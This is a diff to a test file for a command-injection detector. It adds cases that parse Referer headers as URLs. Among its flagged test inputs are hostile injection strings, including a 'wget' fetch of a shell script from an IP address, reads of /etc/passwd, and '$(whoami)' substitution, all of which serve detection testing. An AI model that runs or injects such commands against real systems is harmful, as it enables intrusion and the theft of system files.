@@ -5,10 +5,11 @@ import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { requestInputs } from '../inputs.js';
 import { compileSignatures, parseSignatureRules } from '../signatures.js';
-import { DETECTORS, detectCommandInjection, detectCommandLine, detectShellExpansion } from './command.js';
+import { DETECTORS, detectCommandInjection, detectCommandLine, detectShellExpansion, urlParts } from './command.js';
 import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from './index.js';
 
 const inQuery = { location: 'query:q' };
+const inReferer = { location: 'header:referer' };
 
 describe('command-injection', () => {
   it('exports its detectors by rule name', () => {
@@ -138,7 +139,51 @@ describe('command-injection', () => {
   it('is linear on pathological input', { timeout: 5000 }, () => {
     for (const unit of ['$(', '`', "'", '${', '{a,', ';x ', '| ']) {
       assert.doesNotThrow(() => detectCommandInjection(unit.repeat(20_000), inQuery));
+      assert.doesNotThrow(() => detectCommandInjection(unit.repeat(20_000), inReferer));
     }
+  });
+});
+
+describe('command-injection in a Referer, read as the URL it is', () => {
+  // a URL's own `/`, `;`, `&` and `#` are no shell separators: flags, matrix parameters and routes
+  for (const benign of [
+    'https://shop.example.com/list?sort=asc&id',
+    'https://app.example.com/#/orders;id',
+    'https://example.com/docs/cli;ls',
+    'https://example.com/a?x=1&ps&who',
+    'www.example.com/;ls -al',
+  ]) {
+    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectCommandInjection(benign, inReferer), undefined));
+  }
+  for (const [attack, detail] of [
+    ['https://example.com/?q=a|id', 'command-after-separator'],
+    ['https://example.com/?q=1;wget http://203.0.113.5/x.sh', 'command-after-separator'],
+    ['www.example.com/?param=;/bin/ca? /et*/passwd', 'absolute-program'],
+    ['https://example.com/x;cat /etc/passwd', 'program-on-sensitive-file'],
+    ['https://example.com/?q=$(whoami)', 'command-substitution'],
+  ]) {
+    it(`reports ${JSON.stringify(attack)}`, () => {
+      const hit = detectCommandInjection(attack as string, inReferer);
+      assert.equal(hit?.detail, detail);
+      assert.ok(hit !== undefined && hit.start >= 0 && hit.end <= (attack as string).length);
+    });
+  }
+  it('reads a Referer that is no URL as a plain value', () => {
+    assert.equal(detectCommandInjection(';env', inReferer)?.detail, 'command-after-separator');
+    assert.equal(detectCommandInjection('x|id', inReferer)?.detail, 'command-after-separator');
+  });
+  it('still reads the same URLs as commands in a query value, where `&` and `;` are the value', () => {
+    assert.ok(detectCommandInjection('x;ls -al', inQuery));
+  });
+});
+
+describe('urlParts', () => {
+  it('splits path segments, `;` parameters, query names and values, and a fragment route', () => {
+    const url = 'https://h.example/a/b;c?d=e;f&g#/h;i?j=k';
+    assert.deepEqual(
+      urlParts(url).map(([from, to]) => url.slice(from, to)),
+      ['a', 'b', 'c', 'd', 'e;f', 'g', 'h', 'i', 'j', 'k'],
+    );
   });
 });
 
